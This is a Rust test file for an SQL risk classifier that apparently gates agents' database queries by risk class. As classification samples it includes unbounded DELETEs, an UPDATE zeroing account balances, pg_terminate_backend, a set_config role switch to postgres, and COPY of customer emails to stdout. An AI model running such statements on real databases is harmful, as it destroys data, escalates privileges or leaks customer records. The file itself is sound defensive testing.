fn execute_is_classified_as_what_it_runs() {
    let classifier = Classifier::new();
    let mut session = PreparedStatements::new();

    assert_eq!(
        session_classes(&mut session, &classifier, "EXECUTE gone"),
        [[OPAQUE_CODE]]
    );
    assert_eq!(
        session_classes(&mut session, &classifier, "PREPARE gone AS DELETE FROM t"),
        [[WRITE, WRITE_UNBOUNDED]]
    );
    assert_eq!(session.len(), 1);
    let execute = session
        .classify(&classifier, "EXECUTE gone")
        .expect("parses");
    assert_eq!(execute.statements[0].risk_classes, [WRITE, WRITE_UNBOUNDED]);
    assert_eq!(execute.statements[0].tables, ["t"]);
    assert!(execute.statements[0].notes.is_empty());
    assert_eq!(
        session_classes(&mut session, &classifier, "EXPLAIN ANALYZE EXECUTE gone"),
        [[WRITE, WRITE_UNBOUNDED]]
    );
    assert_eq!(
        session_classes(&mut session, &classifier, "EXPLAIN EXECUTE gone"),
        [[READ]]
    );
    assert_eq!(
        session_classes(&mut session, &classifier, "CREATE TABLE x AS EXECUTE gone"),
        [[WRITE, WRITE_UNBOUNDED, DDL]]
    );

    // Within one query, a PREPARE is seen by the EXECUTE after it.
    assert_eq!(
        session_classes(
            &mut session,
            &classifier,
            "PREPARE r AS SELECT 1; EXECUTE r; PREPARE k AS SELECT pg_terminate_backend(1); EXECUTE k"
        ),
        [vec![READ], vec![READ], vec![READ, ADMIN], vec![READ, ADMIN]]
    );

    // The cached classification is untouched by the session's resolution.
    assert_eq!(
        classifier
            .classify("EXECUTE gone")
            .expect("parses")
            .risk_classes(),
        [OPAQUE_CODE]
    );
    // Another session does not see this session's statements.
    let mut other = PreparedStatements::new();
    assert_eq!(
        session_classes(&mut other, &classifier, "EXECUTE gone"),
        [[OPAQUE_CODE]]
    );
}

#[test]
fn prepared_statements_are_forgotten_only_when_the_server_confirms() {
    let classifier = Classifier::new();
    let mut session = PreparedStatements::new();
    session_classes(&mut session, &classifier, "PREPARE p AS DELETE FROM t");

    // A DEALLOCATE seen (perhaps denied, never run) forgets nothing ...
    let deallocate = session
        .classify(&classifier, "DEALLOCATE p")
        .expect("parses");
    assert_eq!(session.len(), 1);
    // ... and a later PREPARE of the same name keeps the union: the server may still hold
    // the DELETE.
    session_classes(&mut session, &classifier, "PREPARE p AS SELECT 1");
    assert_eq!(
        session_classes(&mut session, &classifier, "EXECUTE p"),
        [[READ, WRITE, WRITE_UNBOUNDED]]
    );

    // Once the server has run the DEALLOCATE, the name is free again.
    session.confirm(&deallocate.statements[0]);
    assert!(session.is_empty());
    session_classes(&mut session, &classifier, "PREPARE p AS SELECT 1");
    assert_eq!(
        session_classes(&mut session, &classifier, "EXECUTE p"),
        [[READ]]
    );

    let discard = classifier.classify("DISCARD ALL").expect("parses");
    session.confirm(&discard.statements[0]);
    assert!(session.is_empty());
}

#[test]
fn extended_protocol_statements_share_the_namespace() {
    let classifier = Classifier::new();
    let mut session = PreparedStatements::new();
    let parse: Arc<Classification> = classifier
        .classify("UPDATE accounts SET balance = 0")
        .expect("parses");
    session.register("s1", Arc::clone(&parse));
    assert!(Arc::ptr_eq(&session.get("s1").expect("registered"), &parse));
    assert_eq!(
        session_classes(&mut session, &classifier, "EXECUTE s1"),
        [[WRITE, WRITE_UNBOUNDED]]
    );
    assert!(session.get("s2").is_none());

    // Re-registering under a name keeps the union until the proxy removes it.
    session.register("s1", classifier.classify("SELECT 1").expect("parses"));
    assert_eq!(
        session.get("s1").expect("registered").risk_classes(),
        [READ, WRITE, WRITE_UNBOUNDED]
    );
    session.remove("s1");
    assert!(session.get("s1").is_none());

    // Repeated failing registrations do not grow an entry without bound.
    for i in 0..100 {
        session.register(
            "",
            classifier
                .classify(&format!("SELECT {i} FROM t{i}"))
                .expect("parses"),
        );
    }
    let merged = session.get("").expect("registered");
    assert!(merged.statements.len() <= 8);
    assert_eq!(merged.risk_classes(), [READ]);
    session.clear();
    assert!(session.is_empty());
}

#[test]
fn copy_to_stdout_names_its_source_query() {
    let c = agentgate_sql_classify::classify(
        "COPY (SELECT email FROM customers WHERE note = ')') TO STDOUT",
    )
    .expect("classifies");
    assert_eq!(
        c.statements[0].copy_source.as_deref(),
        Some("SELECT email FROM customers WHERE note = ')'")
    );
    let c = agentgate_sql_classify::classify(
        "copy public.customers (id, \"E\") to stdout with (format csv)",
    )
    .expect("classifies");
    assert_eq!(
        c.statements[0].copy_source.as_deref(),
        Some("SELECT \"id\", \"E\" FROM \"public\".\"customers\"")
    );
    let c = agentgate_sql_classify::classify("COPY customers FROM STDIN").expect("classifies");
    assert_eq!(c.statements[0].copy_source, None);
}

#[test]
fn same_shape_reads_share_a_cache_entry_but_numbers_still_decide_writes() {
    let classifier = agentgate_sql_classify::Classifier::new();
    classifier
        .classify("SELECT abalance FROM pgbench_accounts WHERE aid = 1")
        .expect("classifies");
    let second = classifier
        .classify("SELECT abalance FROM pgbench_accounts WHERE aid = 98765")
        .expect("classifies");
    assert_eq!(
        classifier.stats().hits,
        1,
        "the second number is a hit by shape"
    );
    assert_eq!(
        second.statements[0].text,
        "SELECT abalance FROM pgbench_accounts WHERE aid = 98765"
    );
    assert_eq!(second.statements[0].risk_classes, vec!["sql.read"]);

    let bounded = classifier
        .classify("DELETE FROM t WHERE 1 = 2")
        .expect("classifies");
    assert!(
        !bounded.statements[0]
            .risk_classes
            .contains(&"sql.write.unbounded")
    );
    let unbounded = classifier
        .classify("DELETE FROM t WHERE 1 = 1")
        .expect("classifies");
    assert!(
        unbounded.statements[0]
            .risk_classes
            .contains(&"sql.write.unbounded"),
        "a write's numbers are never taken from another text"
    );
    // Strings are part of the shape: set_config of the role stays admin.
    classifier
        .classify("SELECT set_config('work_mem', '64MB', false), 1")
        .expect("classifies");
    let role = classifier
        .classify("SELECT set_config('role', 'postgres', false), 2")
        .expect("classifies");
    assert!(role.statements[0].risk_classes.contains(&"sql.admin"));
}
